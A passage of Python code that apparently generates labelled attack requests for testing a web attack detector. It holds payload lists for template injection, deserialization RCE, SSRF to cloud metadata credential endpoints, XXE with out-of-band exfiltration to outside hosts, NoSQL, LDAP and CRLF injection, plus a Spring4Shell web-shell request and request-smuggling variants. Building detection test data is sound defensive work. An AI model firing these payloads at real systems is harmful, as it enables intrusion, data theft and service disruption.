    "${7*7}{{7*'7'}}<%= 7*7 %>",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "<%= system('id') %>",
    "<%= `ls /` %>",
    "<%= File.open('/etc/passwd').read %>",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "${self.module.cache.util.os.system(\"id\")}",
    "{% import os %}{{os.popen(\"id\").read()}}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
    ("{\"__proto__\":{\"isAdmin\":true}}", ["jsonbody"]),
    ("{\"user\":{\"name\":\"x\",\"constructor\":{\"prototype\":{\"polluted\":\"yes\"}}}}", ["jsonbody"]),
    ("/api/settings?__proto__[isAdmin]=true", ["pathraw"]),
    ("/search?constructor[prototype][toString]=1", ["pathraw"]),
    ("/profile?__proto__.shell=/proc/self/exe&__proto__.argv0=console.log(require(%22child_process%22).execSync(%22id%22).toString())//", ["pathraw"]),
    ("{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}", ["jsonbody"]),
    "require('child_process').exec('id')",
    "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){})}()",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "IO.popen('id').read",
    "eval(\"system('id')\")",
    "--- !ruby/object:Gem::Installer\n  i: x\n--- !ruby/object:Gem::SpecFetcher\n  i: y",
    "__import__('os').system('id')",
    "exec(\"import os;os.system('id')\")",
    "Y29zCnN5c3RlbQooUydpZCcKdFIu",
    "getattr(__import__('subprocess'),'check_output')(['id'])",
    "!!python/object/apply:os.system [\"id\"]",
    "eval(compile('import os;os.system(\"id\")','<s>','exec'))",
]

SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/user-data",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/api/token",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A",
    "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40b%3E%0D%0A",
    "dict://127.0.0.1:11211/stat",
    "file:///etc/passwd",
    "file:///c:/windows/win.ini",
    "http://localhost:8080/actuator/env",
    "http://127.1/admin",
    "http://0.0.0.0:2375/containers/json",
    "http://[::]:80/server-status",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://127.0.0.1.nip.io:9200/_cat/indices",
    "http://0177.0.0.1/",
    "http://2130706433:8500/v1/agent/self",
    "http://evil.com@169.254.169.254/",
    "http://169.254.169.254%23@cdn.example.com/",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "https://10.0.0.1:10250/pods",
    "ldap://127.0.0.1:389/",
    "tftp://203.0.113.4:69/x",
    "jar:http://203.0.113.4/x.jar!/",
    "netdoc:///etc/passwd",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    ("<iframe src=\"http://169.254.169.254/latest/meta-data/\" width=800></iframe>", ["json"]),
]

XXE = [
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><order><note>&xxe;</note></order>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE r [\n  <!ENTITY % dtd SYSTEM \"http://203.0.113.7/evil.dtd\">\n  %dtd;\n  %send;\n]>\n<r>1</r>",
    "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % file SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hostname\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://x.oast.fun/?d=%file;'>\">%eval;%exfil;]><d/>",
    ("XINCLUDE", ["xinclude"]),
    ("SVG", ["svgupload"]),
    "<?xml version=\"1.0\"?><!DOCTYPE soap [<!ENTITY x SYSTEM \"file:///c:/windows/win.ini\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetPrice><Item>&x;</Item></GetPrice></soap:Body></soap:Envelope>",
    "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>",
    "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://203.0.113.7/x.dtd\"><x>1</x>",
    "<?xml version=\"1.0\"?><!DOCTYPE m [<!ENTITY % file SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#x25; err SYSTEM 'file:///nonexistent/%file;'>\">%e;%err;]><m/>",
    "<?xml version=\"1.0\"?><!DOCTYPE message [<!ENTITY % local_dtd SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"><!ENTITY % ISOamso '<!ENTITY &#x25; file SYSTEM \"file:///etc/passwd\"><!ENTITY &#x25; eval \"<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;&#x27;>\">&#x25;eval;&#x25;error;'>%local_dtd;]><message/>",
    "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY cmd SYSTEM \"expect://id\">]><c>&cmd;</c>",
    "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY n SYSTEM \"netdoc:/etc/passwd\">]><c>&n;</c>",
    "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE foo +AFs +ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI +AD4AXQA+-+ADw-foo+AD4AJg-xxe+ADsAPA-/foo+AD4-",
    ("SAML", ["saml"]),
    ("XLSX", ["xmlupload"]),
]

NOSQLI = [
    ("username[$ne]=x&password[$ne]=x", ["formraw"]),
    ("user=admin&pass[$gt]=", ["formraw"]),
    ("login[$regex]=^adm&password[$ne]=1", ["formraw"]),
    ("{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}", ["jsonbody"]),
    ("{\"username\":\"admin\",\"password\":{\"$gt\":\"\"}}", ["jsonbody"]),
    ("{\"$where\":\"sleep(5000)\"}", ["jsonbody"]),
    ("{\"username\":{\"$regex\":\"^a.*\"},\"password\":{\"$exists\":true}}", ["jsonbody"]),
    "' || '1'=='1",
    "';return true;var x='",
    "'; sleep(5000); var y='",
    ("{\"$where\":\"this.password.match(/^a/)\"}", ["jsonbody"]),
    ("{\"$or\":[{\"role\":\"admin\"},{\"role\":{\"$ne\":\"x\"}}]}", ["query"]),
    ("{\"user\":{\"$in\":[\"admin\",\"root\"]},\"pass\":{\"$nin\":[\"\"]}}", ["jsonbody"]),
    ("/api/users?username[$exists]=true&role[$ne]=guest", ["pathraw"]),
    ("{\"filter\":{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(3000);return true}\",\"args\":[],\"lang\":\"js\"}}}}", ["jsonbody"]),
    ("{\"find\":\"users\",\"filter\":{\"$where\":\"function(){return true}\"}}", ["jsonbody"]),
    "';db.dropDatabase();'",
    ("/orders?id[$ne]=0", ["pathraw"]),
    ("[{\"$lookup\":{\"from\":\"users\",\"localField\":\"owner\",\"foreignField\":\"_id\",\"as\":\"u\"}},{\"$project\":{\"u.password\":1}}]", ["jsonbody"]),
    ("email[$regex]=.*&password[$regex]=.*", ["formraw"]),
]

LDAPI = [
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "*)(|(objectClass=*)",
    "admin*)((|userPassword=*)",
    ("RAW:*))%00", ["query", "form"]),
    "x)(|(cn=*)(mail=*))",
    "*)(&(objectCategory=person)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local))(|(cn=*",
    "jsmith)(|(password=*))",
    "*)(userPassword=a*",
    "admin)(!(&(1=0)(userPassword=q))",
    "*()|&'",
    "*)(objectClass=*))(&(objectClass=void",
]

CRLF = [
    "RAW:%0d%0aSet-Cookie:%20session=deadbeef",
    ("/redirect?next=/%0d%0aLocation:%20https://evil.example", ["pathraw"]),
    "RAW:%E5%98%8A%E5%98%8DSet-Cookie:%20crlf=injected",
    "RAW:%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E",
    "RAW:%0aX-Injected:%20yes",
    "RAW:%23%0dSet-Cookie:x=1",
    ("\r\nSet-Cookie: admin=true", ["form", "json"]),
    "RAW:%u000d%u000aSet-Cookie:x=crlf",
    "RAW:%250d%250aSet-Cookie:%20dbl=1",
    ("/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0a", ["pathraw"]),
    "RAW:%3f%0d%0aLocation:%0d%0aContent-Type:text/html%0d%0aX-XSS-Protection%3a0%0d%0a%0d%0a%3Csvg%20onload%3Dalert%28document.domain%29%3E",
    "RAW:%E5%98%8D%E5%98%8ALocation:%20//evil.example",
    ("/set-lang?lang=en%0d%0aRefresh:0;url=https://evil.example", ["pathraw"]),
    "RAW:%0D%0AAccess-Control-Allow-Origin:%20*",
    "RAW:%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Chtml%3Epwn",
]

SCANNER_UA = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Wfuzz/3.1.0",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Arachni/v1.5.1",
    "w3af.org",
    "commix/v3.8-stable (https://commixproject.com)",
    "Jaeles - github.com/jaeles-project/jaeles",
    "Mozilla/5.0 (compatible; Nessus SOAP)",
    "ZmEu",
    "Morfeus Fucking Scanner",
    "WhatWeb/0.5.5",
    "feroxbuster/2.10.1",
    "Mozilla/4.0 (Hydra)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/93.0.4577.63 Safari/537.36 Netsparker",
    "Mozilla/5.0 (compatible; Qualys Web Application Scanning)",
    "OpenVAS-VT",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/112.0 Safari/537.36 Acunetix",
]

DEFAULT_PLACES = {
    "sqli": ["query", "query", "form", "json", "xml", "multipart", "cookie", "referer", "path"],
    "xss": ["query", "query", "form", "json", "multipart", "referer", "xcustom", "cookie"],
    "lfi": ["query", "query", "form", "json", "cookie", "xml", "multipart"],
    "rfi": ["query", "query", "form", "json", "cookie"],
    "rce": ["query", "query", "form", "json", "xml", "multipart", "cookie", "xcustom"],
    "php": ["query", "form", "json", "multipart", "cookie"],
    "java": ["query", "form", "json", "ua", "referer", "xcustom", "cookie", "xfh", "xml"],
    "generic": ["query", "form", "json", "multipart", "xml", "cookie"],
    "ssrf": ["query", "query", "form", "json", "json", "xml", "xfh-ssrf"],
    "xxe": ["xmlbody"],
    "nosqli": ["query", "form", "json"],
    "ldapi": ["query", "form", "json", "multipart"],
    "crlf": ["query", "query", "form", "cookie"],
}

PARAMS = {
    "sqli": ["id", "product_id", "cat", "sort", "order", "user", "q", "page", "item", "uid", "ref"],
    "xss": ["q", "search", "name", "comment", "message", "title", "returnUrl", "lang", "callback", "msg"],
    "lfi": ["file", "page", "template", "path", "doc", "include", "view", "lang", "download"],
    "rfi": ["page", "include", "file", "template", "module", "url", "src"],
    "rce": ["host", "ip", "cmd", "target", "filename", "domain", "ping", "exec", "dir"],
    "php": ["code", "cmd", "data", "input", "expr", "c", "fn", "payload"],
    "java": ["q", "username", "search", "name", "expr", "filter", "redirect", "token"],
    "generic": ["name", "template", "greeting", "q", "msg", "expr", "code", "subject", "bio"],
    "ssrf": ["url", "image_url", "callback", "webhook", "uri", "dest", "feed", "proxy", "fetch"],
    "nosqli": ["username", "q", "filter", "where", "search", "user"],
    "ldapi": ["user", "username", "uid", "cn", "search", "login"],
    "crlf": ["next", "redirect", "lang", "return", "url", "page"],
}

PATHS = {
    "sqli": ["/products", "/catalog/item", "/api/v2/orders", "/index.php", "/news/article", "/search"],
    "xss": ["/search", "/comments", "/profile/update", "/feedback", "/login", "/share"],
    "lfi": ["/view", "/index.php", "/download", "/docs/show", "/render", "/static/load"],
    "rfi": ["/index.php", "/main.php", "/portal/load", "/cms/page.php"],
    "rce": ["/tools/ping", "/api/diagnostics", "/cgi-bin/status", "/admin/backup", "/convert"],
    "php": ["/index.php", "/admin/tools.php", "/api/eval", "/wp-admin/admin-ajax.php"],
    "java": ["/login", "/api/search", "/struts/action.do", "/app/index.jsp", "/api/v1/users"],
    "generic": ["/preview", "/api/render", "/profile", "/newsletter/preview", "/greet"],
    "ssrf": ["/api/fetch", "/proxy", "/image/thumbnail", "/webhooks/test", "/import/url", "/pdf/render"],
    "nosqli": ["/api/login", "/api/users/search", "/auth", "/api/products"],
    "ldapi": ["/directory/search", "/login", "/api/people", "/ldap/lookup"],
    "crlf": ["/redirect", "/out", "/set-lang", "/r", "/login"],
}


def attack_headers(host, rng, ua=None, accept="html"):
    h = browser_headers(host, rng, accept=accept, ua=ua)
    if rng.random() < 0.5:
        h.append(["Cookie", std_cookie(rng)])
    return h


def normalize(p):
    if isinstance(p, tuple):
        return p[0], p[1]
    return p, None


def decoded(text):
    if text.startswith("RAW:"):
        return up.unquote(text[4:])
    if text.startswith("JSONRAW:"):
        return json.loads('"' + text[8:] + '"')
    return text


def place_generic(cat, idx, text, place, rng):
    """Return (method, uri, headers, body, where)."""
    host = rng.choice(HOSTS)
    path = rng.choice(PATHS.get(cat, ["/"]))
    param = rng.choice(PARAMS.get(cat, ["q"]))
    raw = text.startswith("RAW:")
    jraw = text.startswith("JSONRAW:")
    payload = text[4:] if raw else (text[8:] if jraw else text)
    enc_q = payload if raw else q(payload, safe=rng.choice(["", "", "/:", "(),*"]))
    enc_f = payload if raw else qp(payload)
    extra = rng.choice(["", "lang=en&", "page=1&", "v=2&", "utm_source=newsletter&"])
    h = attack_headers(host, rng)

    if place == "query":
        return "GET", f"{path}?{extra}{param}={enc_q}", h, None, f"query param {param}"
    if place == "path":
        seg = payload if raw else q(payload)
        return "GET", f"/api/v1{path}/{seg}/details", h, None, "path segment"
    if place == "form":
        body = f"csrf_token={rhex(32, rng)}&{param}={enc_f}&submit=Send"
        return "POST", path, with_body(h, "application/x-www-form-urlencoded", body), body, f"form field {param}"
    if place == "json":
        if jraw:
            body = '{"data":{"type":"comment","attributes":{"' + param + '":"' + payload + '","lang":"en"}}}'
        else:
            val = decoded(text)
            shape = rng.randrange(3)
            if shape == 0:
                obj = {"data": {"type": "record", "attributes": {param: val, "visible": True}}}
            elif shape == 1:
                obj = {"filters": [{"field": "status", "op": "eq", "value": "active"},
                                   {"field": param, "op": "eq", "value": val}], "limit": 20}
            else:
                obj = {"request_id": uuid4(rng), "payload": {"items": [{"sku": "A-1029", "qty": 1,
                                                                         param: val}]}}
            body = json.dumps(obj)
        h2 = browser_headers(host, rng, accept="json")
        return "POST", "/api" + path, with_body(h2, "application/json", body), body, f"JSON body field {param}"
    if place == "xml":
        val = decoded(text)
        body = f'<?xml version="1.0" encoding="UTF-8"?>\n<request><id>{rng.randrange(1000, 9999)}</id><{param}>{xml_escape(val)}</{param}></request>'
        return "POST", "/api" + path, with_body(h, "application/xml", body), body, f"XML element <{param}>"
    if place == "multipart":
        val = decoded(text)
        ct, body = multipart([("title", "Quarterly update", None, None), (param, val, None, None),
                              ("agree", "on", None, None)], rng)
        return "POST", path, with_body(h, ct, body), body, f"multipart field {param}"
    if place == "cookie":
        cval = payload if raw else q(payload, safe="/:=()*,'!")
        h = browser_headers(host, rng)
        h.append(["Cookie", f"_ga=GA1.2.{rng.randrange(10**8, 10**9)}.1712345678; {param}={cval}; theme=dark"])
        return "GET", path, h, None, f"cookie {param}"
    if place == "referer":
        rv = payload if raw else q(payload)
        h = browser_headers(host, rng, referer=f"https://{host}{path}?{param}={rv}")
        return "GET", path, h, None, "Referer header (query of referring URL)"
    if place == "ua":
        val = decoded(text)
        h = browser_headers(host, rng, ua=val)
        return "GET", path, h, None, "User-Agent header"
    if place == "xfh":
        val = decoded(text)
        h = browser_headers(host, rng)
        h.append(["X-Forwarded-Host", val])
        return "GET", path, h, None, "X-Forwarded-Host header"
    if place == "xfh-ssrf":
        val = decoded(text)
        h = browser_headers(host, rng, accept="json")
        hn = rng.choice(["X-Original-URL", "X-Callback-Url", "X-Image-Source"])
        h.append([hn, val])
        return "GET", "/api" + path, h, None, f"{hn} header"
    if place == "xcustom":
        val = decoded(text)
        hn = rng.choice(["X-Api-Version", "X-Forwarded-For", "X-Client-Id", "X-Requested-Page", "True-Client-IP"])
        h.append([hn, val])
        return "GET", path, h, None, f"{hn} header"
    if place == "pathraw":
        return "GET", payload, h, None, "request URI (raw path/query)"
    if place == "pathenc":
        return "GET", q(payload, safe="/"), h, None, "request path"
    if place == "formraw":
        body = payload
        return "POST", path, with_body(h, "application/x-www-form-urlencoded", body), body, "form body (raw)"
    if place == "jsonbody":
        h2 = browser_headers(host, rng, accept="json")
        return "POST", "/api" + path, with_body(h2, "application/json", payload), payload, "JSON body"
    if place == "xmlbody":
        return "POST", "/api" + path, with_body(h, "application/xml", payload), payload, "XML body"
    raise ValueError(place)


def special(cat, text, place, rng):
    """Full-request attacks that are not a payload dropped into a parameter."""
    host = rng.choice(HOSTS)
    h = attack_headers(host, rng)
    if place == "upload":
        _, fname, content = text.split(":", 2)
        ct, body = multipart([("MAX_FILE_SIZE", "2097152", None, None),
                              ("avatar", content, fname, "image/gif" if fname.endswith(".gif") else "application/x-php")], rng)
        return "POST", "/profile/avatar", with_body(h, ct, body), body, f"multipart file {fname}", content
    if place == "pathraw-body":
        body = "<?php echo shell_exec('id'); ?>"
        return "POST", text, with_body(h, "application/x-www-form-urlencoded", body), body, "URI + body", text + "  BODY: " + body
    if place == "preg":
        body = "pattern=" + qp("/.*/e") + "&replacement=" + qp("system('id')") + "&subject=hello"
        return "POST", "/tools/regex.php", with_body(h, "application/x-www-form-urlencoded", body), body, "form fields pattern/replacement", "pattern=/.*/e&replacement=system('id')"
    if place == "spring4shell":
        fields = [
            ("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
             "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }%{suffix}i"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", ""),
        ]
        body = "&".join(k + "=" + qp(v) for k, v in fields)
        h.append(["suffix", "%>//"])
        h.append(["c1", "Runtime"])
        h.append(["c2", "<%"])
        return "POST", "/greeting", with_body(h, "application/x-www-form-urlencoded", body), body, "form body", up.unquote_plus(body)
    if place == "springcloud":
        body = "data"
        h.append(["spring.cloud.function.routing-expression", text])
        return "POST", "/functionRouter", with_body(h, "text/plain", body), body, "header spring.cloud.function.routing-expression", text
    if place == "ctype":
        h = [x for x in h]
        h.append(["Content-Type", text])
        return "GET", "/struts2-showcase/index.action", h, None, "Content-Type header", text
    if place == "xinclude":
        body = "productId=" + qp('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>') + "&storeId=1"
        return "POST", "/product/stock", with_body(h, "application/x-www-form-urlencoded", body), body, "form field productId", up.unquote_plus(body)
    if place == "svgupload":
        svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [ <!ENTITY xx SYSTEM "file:///etc/hostname" > ]>'
               '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xx;</text></svg>')
        ct, body = multipart([("avatar", svg, "avatar.svg", "image/svg+xml"), ("submit", "Upload", None, None)], rng)
        return "POST", "/account/avatar", with_body(h, ct, body), body, "multipart file avatar.svg", svg
    if place == "saml":
        xml = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://203.0.113.7/s.dtd">%x;]>'
               '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com</saml:Issuer></samlp:Response>')
        body = "SAMLResponse=" + qp(base64.b64encode(xml.encode()).decode()) + "&RelayState=%2Fdashboard"
        return "POST", "/saml/acs", with_body(h, "application/x-www-form-urlencoded", body), body, "form field SAMLResponse (base64 XML)", xml
    if place == "xmlupload":
        xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY ext SYSTEM "http://203.0.113.7/xlsx">]>\n'
               '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"><si><t>&ext;</t></si></sst>')
        ct, body = multipart([("file", xml, "sharedStrings.xml", "text/xml"), ("import", "1", None, None)], rng)
        return "POST", "/import/spreadsheet", with_body(h, ct, body), body, "multipart file sharedStrings.xml", xml
    raise ValueError(place)


HEADER_PLACES = {"ua", "xfh", "xfh-ssrf", "xcustom"}


def header_safe(v):
    return all(32 <= ord(c) < 127 or c == "\t" for c in v)


SPECIAL_PLACES = {"upload", "pathraw-body", "preg", "spring4shell", "springcloud", "ctype", "xinclude",
                  "svgupload", "saml", "xmlupload"}


def smuggling(rng):
    """protocol-attack: request smuggling and header-level attacks. yields (headers, method, uri, body, where, desc)."""
    out = []
    host = "shop.example.com"
    ua = UA_BROWSERS[0]

    def base(h=None):
        return [["Host", host], ["User-Agent", ua], ["Accept", "*/*"]] + (h or [])

    smug = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nX-Ignore: X"
    out.append(("POST", "/", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", str(len(smug))], ["Transfer-Encoding", "chunked"]]), smug, "CL.TE: Content-Length + Transfer-Encoding: chunked, smuggled GET /admin"))
    b = "5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"
    out.append(("POST", "/", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "4"], ["Transfer-Encoding", "chunked"]]), b, "TE.CL: Content-Length: 4 + chunked body holding GPOST request"))
    b = "0\r\n\r\nG"
    out.append(("POST", "/search", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "6"], ["Transfer-Encoding", "xchunked"]]), b, "Transfer-Encoding: xchunked"))
    out.append(("POST", "/search", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "6"], ["Transfer-Encoding ", "chunked"]]), b, "header name 'Transfer-Encoding ' (space before colon)"))
    out.append(("POST", "/", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "6"], ["Transfer-Encoding", "chunked"], ["Transfer-encoding", "identity"]]), b, "duplicate Transfer-Encoding chunked / identity"))
    out.append(("POST", "/", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "6"], ["Transfer-Encoding", "\tchunked"]]), b, "Transfer-Encoding: <tab>chunked"))
    out.append(("POST", "/", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "6"], ["Transfer-Encoding", "chunked, identity"]]), b, "Transfer-Encoding: chunked, identity"))
    out.append(("POST", "/", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "6"], ["Transfer-Encoding", "chunk"]]), b, "Transfer-Encoding: chunk"))
    out.append(("POST", "/", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "6"], ["Transfer-Encoding", "\x0bchunked"]]), b, "Transfer-Encoding: <VT>chunked"))
    out.append(("POST", "/login", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "8"], ["Content-Length", "27"]]), "a=1&b=2&GET /admin HTTP/1.1", "two different Content-Length headers"))
    out.append(("POST", "/", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "6"], ["Transfer_Encoding", "chunked"]]), b, "Transfer_Encoding (underscore) header"))
    out.append(("POST", "/", base([["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "6"], ["Transfer-Encoding", "CHUNKED"], ["X-Smuggle", "1"]]), b, "Transfer-Encoding: CHUNKED with Content-Length"))
    out.append(("GET", "/", base([["Content-Length", str(len(smug))], ["Transfer-Encoding", "chunked"]]), smug, "GET with chunked body smuggling /admin"))
    out.append(("GET", "/static/app.js", base([["Range", "bytes=0-," + ",".join("%d-%d" % (i, i + 1) for i in range(1, 60))]]), None, "Range header with 60 overlapping ranges (Apache killer)"))
    out.append(("GET", "/account", base([["Connection", "close, X-Forwarded-For, Authorization"], ["X-Forwarded-For", "127.0.0.1"]]), None, "hop-by-hop abuse: Connection: close, X-Forwarded-For, Authorization"))
    out.append(("GET", "/", [["Host", "shop.example.com"], ["Host", "evil.example"], ["User-Agent", ua], ["Accept", "*/*"]], None, "duplicate Host headers"))
    out.append(("GET", "http://internal.admin.local/admin", base(), None, "absolute-form URI to an internal host"))
    b2 = "3;ext=\"x\r\nabc\r\n0\r\n\r\n"
    out.append(("POST", "/", base([["Content-Type", "text/plain"], ["Transfer-Encoding", "chunked"], ["Content-Length", str(len(b2))]]), b2, "chunk extension with unterminated quote + CL and TE"))
    out.append(("POST", "/api/upload", base([["Content-Type", "application/json"], ["Content-Length", "-1"]]), "{}", "negative Content-Length"))
    out.append(("POST", "/api/upload", base([["Content-Type", "application/json"], ["Content-Length", "2, 2"]]), "{}", "Content-Length: 2, 2 (list)"))
    out.append(("GET", "/", base([["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"], ["Connection", "Upgrade, HTTP2-Settings"]]), None, "h2c upgrade smuggling"))
    return out


def gen_attacks():
    rng = random.Random(SEED + 1)
    rows = []
    meta = []
    groups = [("sqli", SQLI), ("xss", XSS), ("lfi", LFI), ("rfi", RFI), ("rce", RCE), ("php", PHP),
              ("java", JAVA), ("generic", GENERIC), ("ssrf", SSRF), ("xxe", XXE), ("nosqli", NOSQLI),
              ("ldapi", LDAPI), ("crlf", CRLF)]
    for cat, items in groups:
        for i, item in enumerate(items):
            text, places = normalize(item)
            pl = places or DEFAULT_PLACES[cat]
            place = pl[(i + rng.randrange(len(pl))) % len(pl)] if len(pl) > 1 else pl[0]
            if place in HEADER_PLACES and not header_safe(decoded(text)):
                place = "query"
            if place in SPECIAL_PLACES:
                method, uri, headers, body, where, shown = special(cat, text, place, rng)
            else:
                method, uri, headers, body, where = place_generic(cat, i, text, place, rng)
                shown = decoded(text)
            rid = f"realworld/{cat}/{i+1:03d}-{place}"
            rows.append(record(rid, "realworld", cat, "detect", method, uri, headers, body))
            meta.append({"id": rid, "category": cat, "where": where, "payload": shown})
    for i, (method, uri, headers, body, desc) in enumerate(smuggling(rng)):
        rid = f"realworld/protocol-attack/{i+1:03d}"
        if body is not None and not any(k.lower() == "content-type" for k, _ in headers):
            pass
        rows.append(record(rid, "realworld", "protocol-attack", "detect", method, uri, headers, body))
        meta.append({"id": rid, "category": "protocol-attack", "where": "request framing/headers", "payload": desc})
    probes = ["/", "/login", "/wp-login.php", "/robots.txt", "/index.html", "/api/health", "/admin/", "/sitemap.xml"]
    for i, ua in enumerate(SCANNER_UA):
        host = rng.choice(HOSTS)
        path = probes[i % len(probes)]
        h = [["Host", host], ["User-Agent", ua], ["Accept", "*/*"]]
        if "Acunetix" in ua:
            h.append(["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"])
        if i % 3 == 0:
            h.append(["Connection", "close"])
        rid = f"realworld/scanner/{i+1:03d}-ua"
        rows.append(record(rid, "realworld", "scanner", "detect", "GET", path, h, None))
        meta.append({"id": rid, "category": "scanner", "where": "User-Agent header", "payload": ua})
    return rows, meta


# ---------------------------------------------------------------------------------------
# benign
# ---------------------------------------------------------------------------------------

